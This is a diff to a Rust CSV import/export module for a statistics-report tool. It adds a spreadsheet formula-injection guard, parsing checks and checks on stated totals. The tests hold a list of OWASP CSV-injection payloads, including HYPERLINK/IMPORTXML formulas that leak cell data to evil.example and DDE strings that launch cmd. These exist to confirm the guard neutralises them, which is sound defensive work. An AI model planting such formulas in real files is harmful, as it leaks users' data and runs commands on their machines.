@@ -13,6 +13,9 @@
 //! 哈尔滨市,1200,…
 //! ```
 //!
+//! Every cell written that a spreadsheet would run as a formula (`=`, `+`, `-`, `@`, tab, CR
+//! first) gets a leading `'`, and reading removes it, so export → import is exact (SPEC §7).
+//!
 //! Reading takes text already decoded (the CLI decodes UTF-8 or GBK, the browser uses
 //! `TextDecoder`). Cells go through the same normalisation as typed input, so `1,200` and
 //! full-width digits from a spreadsheet just work. A CSV without header fields is a bare table:
@@ -25,7 +28,8 @@ use crate::core::issue::Issue;
 use crate::core::json::ParseError;
 use crate::core::normalize;
 use crate::core::stats::model::{self, StatsDoc, FORMAT};
-use crate::core::stats::totals::{column_sums, row_view, TOTAL_NAME};
+use crate::core::columns::INPUTS;
+use crate::core::stats::totals::{column_sums, compute, row_view, Computed, Ratio, Values, TOTAL_NAME};
 
 /// Header fields: JSON name and the zh-CN label written in the CSV (more labels are accepted
 /// when reading, see [`meta_key`]).
@@ -83,9 +87,96 @@ pub(crate) fn column_of(cell: &str) -> Option<&'static crate::core::columns::Col
     })
 }
 
+/// The first character of a cell that a spreadsheet (Excel, WPS) would run as a formula or a
+/// command (SPEC §7, OWASP "CSV injection"): such a text cell is written with a leading `'`.
+fn is_trigger(c: char) -> bool {
+    matches!(c, '=' | '+' | '-' | '@' | '\t' | '\r')
+}
+
+/// Whether writing `s` needs the guard: it starts with a trigger, or with apostrophes before one
+/// (so that a cell whose own text starts with `'=` reads back as itself, not one `'` shorter).
+fn needs_guard(s: &str) -> bool {
+    s.trim_start_matches('\'').starts_with(is_trigger)
+}
+
+/// `s` as written to a cell: with the formula guard when it needs one.
+pub fn guard(s: &str) -> std::borrow::Cow<'_, str> {
+    if needs_guard(s) {
+        format!("'{s}").into()
+    } else {
+        s.into()
+    }
+}
+
+/// The text of a guarded cell without its `'`, or `None` when the cell is not guarded.
+/// `unguard(&guard(s)) == Some(s)` whenever `guard` changed `s`.
+pub fn unguard(cell: &str) -> Option<&str> {
+    cell.strip_prefix('\'').filter(|rest| needs_guard(rest))
+}
+
+/// A cell's text as read: a guarded cell exactly as it was written before the guard, any other
+/// trimmed.
+fn cell_value(cell: &str) -> &str {
+    unguard(cell).unwrap_or_else(|| normalize::trim(cell))
+}
+
+/// What the `csv` crate lets through: a NUL character (a binary file, or UTF-16 read as bytes)
+/// and a quote that opens a cell and never closes (the crate reads the rest of the file as one
+/// cell). Both make the file unreadable; the error names the line and column where they are.
+/// The quoting follows the crate's: a `"` opens a quoted cell only at the start of a cell, `""`
+/// inside is a quote, and after the closing quote the cell goes on unquoted.
+fn prescan(text: &str) -> Result<(), ParseError> {
+    let (mut line, mut column) = (1usize, 0usize);
+    let mut open: Option<(usize, usize)> = None;
+    let mut field_start = true;
+    let mut chars = text.chars().peekable();
+    while let Some(c) = chars.next() {
+        column += 1;
+        if c == '\0' {
+            return Err(ParseError {
+                line,
+                column,
+                message: "NUL character: this is not a text CSV file (save it again as “CSV UTF-8” or “CSV”)".into(),
+            });
+        }
+        if open.is_some() {
+            if c == '"' {
+                if chars.peek() == Some(&'"') {
+                    chars.next();
+                    column += 1;
+                } else {
+                    open = None;
+                }
+            }
+        } else if c == '"' && field_start {
+            open = Some((line, column));
+        }
+        field_start = open.is_none() && matches!(c, ',' | '\n' | '\r');
+        // CRLF, LF and a lone CR each end a line; the column counts characters.
+        if c == '\n' || (c == '\r' && chars.peek() != Some(&'\n')) {
+            line += 1;
+            column = 0;
+        }
+    }
+    match open {
+        Some((line, column)) => Err(ParseError {
+            line,
+            column,
+            message: "a quote (\") opens a cell here and is never closed: add the closing quote".into(),
+        }),
+        None => Ok(()),
+    }
+}
+
 fn csv_error(e: &csv::Error) -> ParseError {
     let (line, column) = e.position().map_or((0, 0), |p| (p.line() as usize, 1));
     ParseError { line, column, message: e.to_string() }
+}
+
+/// N006: the file was not UTF-8 and was read as GB18030/GBK (SPEC §7). The decoding is the
+/// caller's (the CLI, or the page's `TextDecoder`), so the caller adds it.
+pub fn gbk_notice() -> Issue {
+    Issue::new("N006", "").param("encoding", "GB18030")
 }
 
 /// Reads a statistics table from CSV text.
@@ -94,6 +185,7 @@ pub fn read(text: &str) -> Result<(StatsDoc, Vec<Issue>), ParseError> {
     if text.len() > crate::core::json::MAX_BYTES {
         return Err(ParseError { line: 0, column: 0, message: format!("file too large: {} bytes", text.len()) });
     }
+    prescan(text)?;
     let mut reader = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(text.as_bytes());
     let mut doc = Map::new();
     doc.insert("format".into(), FORMAT.into());
@@ -101,28 +193,38 @@ pub fn read(text: &str) -> Result<(StatsDoc, Vec<Issue>), ParseError> {
     let mut issues = Vec::new();
     let mut header: Option<Vec<Option<&'static crate::core::columns::Column>>> = None;
     let mut rows = Vec::new();
+    // The computed cells given in the file, checked against the computed values once every row
+    // is read: (row index, or None for the 合计 row; field; text).
+    let mut supplied: Vec<(Option<usize>, &'static str, String)> = Vec::new();
     let mut skipped_computed = false;
 
     for record in reader.records() {
         let record = record.map_err(|e| csv_error(&e))?;
         let line = record.position().map_or(0, |p| p.line() as usize);
-        let cells: Vec<&str> = record.iter().collect();
-        if cells.iter().all(|c| normalize::trim(c).is_empty()) {
+        let cells: Vec<&str> = record.iter().map(cell_value).collect();
+        if cells.iter().all(|c| c.is_empty()) {
             continue;
         }
-        let first = normalize::trim(cells[0]);
+        let first = cells[0];
         let Some(cols) = &header else {
             if column_of(first).is_some_and(|c| c.kind == Kind::Name) {
-                let mut cols = Vec::with_capacity(cells.len());
+                let mut cols: Vec<Option<&'static crate::core::columns::Column>> = Vec::with_capacity(cells.len());
                 for (i, h) in cells.iter().enumerate() {
-                    let c = column_of(h);
-                    if c.is_none() && !normalize::trim(h).is_empty() {
+                    let mut c = column_of(h);
+                    if c.is_none() && !h.is_empty() {
                         issues.push(
-                            Issue::new("T008", format!("/rows/0/{}", normalize::trim(h)))
-                                .param("field", normalize::trim(h))
+                            Issue::new("T008", format!("/rows/0/{h}"))
+                                .param("field", *h)
                                 .param("suggestion", model::nearest(&fold(h), COLUMNS.iter().map(|c| c.field)))
                                 .param("column", i + 1),
                         );
+                    }
+                    if let Some(col) = c.filter(|col| cols.iter().flatten().any(|k| k.field == col.field)) {
+                        // Two columns for one field: the first is read (SPEC §5.1, T015).
+                        issues.push(
+                            Issue::new("T015", format!("/rows/0/{}", col.field)).param("key", col.field).param("column", i + 1),
+                        );
+                        c = None;
                     }
                     if c.is_some_and(|c| !c.is_input() && c.kind != Kind::Name) {
                         skipped_computed = true;
@@ -131,11 +233,18 @@ pub fn read(text: &str) -> Result<(StatsDoc, Vec<Issue>), ParseError> {
                 }
                 header = Some(cols);
             } else if let Some(key) = meta_key(first) {
-                let value = cells.get(1).map_or("", |v| normalize::trim(v));
-                if ["overview", "practices", "examples"].contains(&key) {
-                    report.insert(key.into(), value.into());
+                let value = cells.get(1).copied().unwrap_or("");
+                let (map, path) = if ["overview", "practices", "examples"].contains(&key) {
+                    (&mut report, format!("/report/{key}"))
                 } else {
-                    doc.insert(key.into(), value.into());
+                    (&mut doc, format!("/{key}"))
+                };
+                if map.contains_key(key) {
+                    // The first is kept, the second reported (SPEC §5.1): never a silent
+                    // last-one-wins.
+                    issues.push(Issue::new("T015", path).param("key", key).param("line", line));
+                } else {
+                    map.insert(key.into(), value.into());
                 }
             } else {
                 return Err(ParseError {
@@ -146,15 +255,25 @@ pub fn read(text: &str) -> Result<(StatsDoc, Vec<Issue>), ParseError> {
             }
             continue;
         };
-        // The 栏次 row (甲, 1, 2 …) and the totals row are the form's, not data.
+        // The 栏次 row (甲, 1, 2 …) is the form's, not data; the 合计 row is recomputed, and
+        // what it claims is compared with the computed totals below.
         if first == "甲" {
             continue;
         }
-        if first == TOTAL_NAME {
+        let total = first == TOTAL_NAME;
+        let index = (!total).then_some(rows.len());
+        for (i, cell) in cells.iter().enumerate() {
+            if let Some(Some(c)) = cols.get(i) {
+                if !cell.is_empty() && (c.kind != Kind::Name && (total || !c.is_input())) {
+                    supplied.push((index, c.field, (*cell).to_string()));
+                }
+            }
+        }
+        if total {
             skipped_computed = true;
             continue;
         }
-        let extra = cells.iter().skip(cols.len()).filter(|c| !normalize::trim(c).is_empty()).count();
+        let extra = cells.iter().skip(cols.len()).filter(|c| !c.is_empty()).count();
         if extra > 0 {
             issues.push(
                 Issue::new("T014", format!("/rows/{}", rows.len()))
@@ -167,7 +286,7 @@ pub fn read(text: &str) -> Result<(StatsDoc, Vec<Issue>), ParseError> {
         for (i, cell) in cells.iter().enumerate() {
             let Some(Some(c)) = cols.get(i) else { continue };
             if c.kind == Kind::Name || c.is_input() {
-                row.insert(c.field.into(), Value::from(normalize::trim(cell)));
+                row.insert(c.field.into(), Value::from(*cell));
             }
         }
         rows.push(Value::Object(row));
@@ -187,8 +306,74 @@ pub fn read(text: &str) -> Result<(StatsDoc, Vec<Issue>), ParseError> {
     if skipped_computed {
         read_issues.push(Issue::new("N005", "/rows"));
     }
+    read_issues.extend(claims(&stats, &supplied));
     issues.extend(read_issues);
     Ok((stats, issues))
+}
+
+/// R041 for every computed cell (a coverage, `methods_total`, any cell of the 合计 row) whose
+/// text differs from the value computed from the rows read. A value that cannot be computed (an
+/// operand missing or invalid: its own error says so) is not compared.
+fn claims(stats: &StatsDoc, supplied: &[(Option<usize>, &'static str, String)]) -> Vec<Issue> {
+    let sums: Values = std::array::from_fn(|i| {
+        stats.rows.iter().try_fold(0u64, |acc, r| acc.checked_add(r.cells[i].value()?))
+    });
+    let mut issues = Vec::new();
+    for (row, field, text) in supplied {
+        let values = match row {
+            None => sums,
+            Some(i) => match stats.rows.get(*i) {
+                Some(r) => r.values(),
+                None => continue,
+            },
+        };
+        let Some(c) = COLUMNS.iter().find(|c| c.field == *field) else { continue };
+        // An input column (in the 合计 row) is its column sum.
+        let computed = compute(c.kind, &values).or_else(|| INPUTS.iter().position(|f| f == field).map(|i| Computed::Sum(values[i])));
+        let (same, shown) = match computed {
+            Some(Computed::Sum(Some(n))) => (normalize::parse_count(text) == Ok(n), Value::from(n)),
+            Some(Computed::Ratio(Some(r))) => (same_ratio(text, r), Value::from(r.display())),
+            _ => continue,
+        };
+        if !same {
+            let path = match row {
+                None => format!("/total/{field}"),
+                Some(i) => format!("/rows/{i}/{field}"),
+            };
+            let unit = match row {
+                None => "合计",
+                Some(i) => stats.rows.get(*i).and_then(|r| r.name.as_deref()).unwrap_or(""),
+            };
+            issues.push(
+                Issue::new("R041", path)
+                    .param("row", unit)
+                    .param("field", *field)
+                    .param("supplied", text.as_str())
+                    .param("computed", shown),
+            );
+        }
+    }
+    issues
+}
+
+/// Whether a coverage as a spreadsheet shows it (`91.6%`, `91.67 %`, `91.6`, `—` for 0/0) is the
+/// ratio `r` at the precision written: |p − 100·num/den| < 10^−decimals, so both rounding down
+/// (as the form shows it) and rounding to nearest (as Excel does) are the same value.
+fn same_ratio(text: &str, r: Ratio) -> bool {
+    let t = normalize::halfwidth(text);
+    let t = t.trim().trim_end_matches('%').trim_end();
+    if r.den == 0 {
+        return matches!(t, "—" | "-" | "–" | "/" | "") || t.starts_with("#DIV/0");
+    }
+    let (int, frac) = t.split_once('.').unwrap_or((t, ""));
+    if int.is_empty() || int.len() > 6 || frac.len() > 6 || !int.bytes().chain(frac.bytes()).all(|b| b.is_ascii_digit()) {
+        return false;
+    }
+    let scale = 10u128.pow(frac.len() as u32);
+    let Ok(p) = format!("{int}{frac}").parse::<u128>() else { return false };
+    // |p/scale − 100·num/den| < 1/scale  ⇔  |p·den − 100·num·scale| < den
+    let (a, b) = (p * u128::from(r.den), 100 * u128::from(r.num) * scale);
+    a.abs_diff(b) < u128::from(r.den)
 }
 
 /// The text of a JSON value in a CSV cell (strings as they are, numbers as digits).
@@ -237,9 +422,9 @@ pub fn write(doc: &StatsDoc) -> String {
     w.0
 }
 
-/// The CSV writing [`write`] needs: RFC 4180 quoting (a field with a comma, a quote or a line
-/// break is quoted, quotes doubled; a record of one empty field is `""`, as the `csv` crate
-/// writes it), CRLF line ends. Not `csv::Writer`: in wasm it brings float parsing along (for a
+/// The CSV writing [`write`] needs: the formula guard on every cell ([`guard`]), RFC 4180
+/// quoting (a field with a comma, a quote or a line break is quoted, quotes doubled; a record of
+/// one empty field is `""`, as the `csv` crate writes it), CRLF line ends. Not `csv::Writer`: in wasm it brings float parsing along (for a
 /// quoting style never used here) and costs some 18 KiB gzip of the browser's download.
 struct Writer(String);
 
@@ -248,7 +433,7 @@ impl Writer {
         let start = self.0.len();
         let mut fields = 0;
         for field in record {
-            let f = field.as_ref();
+            let f = guard(field.as_ref());
             if fields > 0 {
                 self.0.push(',');
             }
@@ -258,7 +443,7 @@ impl Writer {
                 self.0.push_str(&f.replace('"', "\"\""));
                 self.0.push('"');
             } else {
-                self.0.push_str(f);
+                self.0.push_str(&f);
             }
         }
         if fields == 1 && self.0.len() == start {
@@ -303,5 +488,115 @@ mod tests {
     fn no_header_row_names_the_line() {
         let e = read("填报单位,某市\n哈尔滨市,1,2\n").unwrap_err();
         assert_eq!(e.line, 2);
+    }
+
+    /// OWASP "CSV Injection" payloads, and the edge cases of the guard itself.
+    const PAYLOADS: &[&str] = &[
+        "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"点此查看\")",
+        "=cmd|' /C calc'!A0",
+        "+cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "=DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
+        "=1+1",
+        "\t=1+1",
+        "\r=1+1",
+        "=IMPORTXML(CONCAT(\"http://evil.example/?v=\",A1),\"//a\")",
+        "'=1+1",
+        "''@x",
+        "'plain",
+        "-",
+        "@",
+    ];
+
+    fn doc_with(text: &str) -> StatsDoc {
+        let v = serde_json::json!({
+            "format": FORMAT, "unit": text, "batch": 1, "as_of": "2011-01-15", "filed_on": "2011-01-16",
+            "principal": text, "preparer": "王五", "phone": "0451-82345678", "notes": text,
+            "report": { "overview": text, "practices": "做法", "examples": "事例" },
+            "rows": [ { "name": text, "orgs_total": text, "orgs_reviewed": 1 }, { "name": "乙市", "orgs_total": 3 } ],
+        });
+        model::read(&v).0
+    }
+
+    #[test]
+    fn owasp_payloads_are_written_guarded_and_read_back_exactly() {
+        for p in PAYLOADS {
+            let doc = doc_with(p);
+            let text = write(&doc);
+            // No cell as a spreadsheet reads it starts with a formula character.
+            let mut r = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(text.trim_start_matches('\u{feff}').as_bytes());
+            for rec in r.records() {
+                for cell in rec.unwrap().iter() {
+                    assert!(!cell.starts_with(is_trigger), "{p:?} written unguarded as {cell:?}");
+                }
+            }
+            let (back, _) = read(&text).unwrap();
+            assert_eq!(back.to_value(), doc.to_value(), "round trip of {p:?}");
+        }
+    }
+
+    #[test]
+    fn guard_and_unguard_are_inverse() {
+        for p in PAYLOADS.iter().copied().chain(["", "'", "''", "a=b", "哈尔滨市", "1,200"]) {
+            let g = guard(p);
+            assert_eq!(unguard(&g).unwrap_or(&g), p);
+            assert!(!g.starts_with(is_trigger));
+        }
+        assert_eq!(guard("=1+1"), "'=1+1");
+        assert_eq!(guard("'=1+1"), "''=1+1");
+        assert_eq!(guard("'abc"), "'abc");
+    }
+
+    #[test]
+    fn unterminated_quote_names_the_line_where_it_opens() {
+        let e = read("填报单位,某市\n批次,1\n\nname,orgs_total\n甲市,\"12\n乙市,3\n").unwrap_err();
+        assert_eq!((e.line, e.column), (5, 4), "{e}");
+        assert!(e.message.contains("quote"), "{e}");
+        // Quotes that close, doubled quotes and quotes inside an unquoted cell are fine.
+        assert!(read("name,orgs_total\n\"甲\"\"市\",\"1,200\"\n乙\"市,3\n").is_ok());
+        // CRLF counts one line.
+        let e = read("name,orgs_total\r\n甲市,1\r\n\"乙市,3\r\n").unwrap_err();
+        assert_eq!((e.line, e.column), (3, 1));
+    }
+
+    #[test]
+    fn nul_is_an_error_not_accepted() {
+        let e = read("name,orgs_total\n甲市,1\0\n").unwrap_err();
+        assert_eq!((e.line, e.column), (2, 5));
+        assert!(e.message.contains("NUL"));
+    }
+
+    #[test]
+    fn a_header_field_given_twice_keeps_the_first_and_says_so() {
+        let (doc, issues) = read("填报单位,某市\n批次,1\n批次,2\n总体情况,甲\n总体情况,乙\n\nname,orgs_total,orgs_total\n甲市,1,2\n").unwrap();
+        assert_eq!(doc.batch, Some(1));
+        assert_eq!(doc.rows[0].cells[0].value(), Some(1));
+        let t015: Vec<_> = issues.iter().filter(|i| i.code == "T015").map(|i| (i.path.as_str(), i.params["key"].as_str().unwrap())).collect();
+        assert_eq!(t015, [("/batch", "batch"), ("/report/overview", "overview"), ("/rows/0/orgs_total", "orgs_total")]);
+    }
+
+    #[test]
+    fn a_totals_row_that_the_rows_do_not_bear_out_is_r041() {
+        let head = "name,orgs_total,orgs_reviewed,orgs_coverage,collective,individual,onsite,random,methods_total\n";
+        // Equal (rounded down or to nearest): no R041, N005 only.
+        let (_, issues) = read(&format!("{head}合计,12,11,91.6%,1,1,1,1,4\n甲市,12,11,91.67%,1,1,1,1,4\n")).unwrap();
+        assert!(issues.iter().all(|i| i.code != "R041"), "{issues:?}");
+        assert!(issues.iter().any(|i| i.code == "N005"));
+        // A claimed coverage and a total the rows do not give.
+        let (_, issues) = read(&format!("{head}合计,13,11,100%,1,1,1,1,4\n甲市,12,11,91.6%,1,1,1,1,5\n")).unwrap();
+        let r041: Vec<_> = issues.iter().filter(|i| i.code == "R041").collect();
+        assert_eq!(r041.len(), 3, "{r041:?}");
+        assert_eq!(r041[0].path, "/total/orgs_total");
+        assert_eq!(r041[0].params["supplied"], "13");
+        assert_eq!(r041[0].params["computed"], 12);
+        assert_eq!(r041[1].path, "/total/orgs_coverage");
+        assert_eq!(r041[1].params["computed"], "91.6%");
+        assert_eq!(r041[2].path, "/rows/0/methods_total");
+        assert_eq!(r041[2].params["computed"], 4);
+        assert_eq!(r041[2].severity, crate::core::issue::Severity::Warning);
+        // 0/0 written as — or -, and a total that cannot be computed (an invalid cell) is not compared.
+        let (_, issues) = read(&format!("{head}合计,x,0,—\n甲市,0,0,-\n乙市,abc,0\n")).unwrap();
+        assert!(issues.iter().all(|i| i.code != "R041"), "{issues:?}");
     }
 }
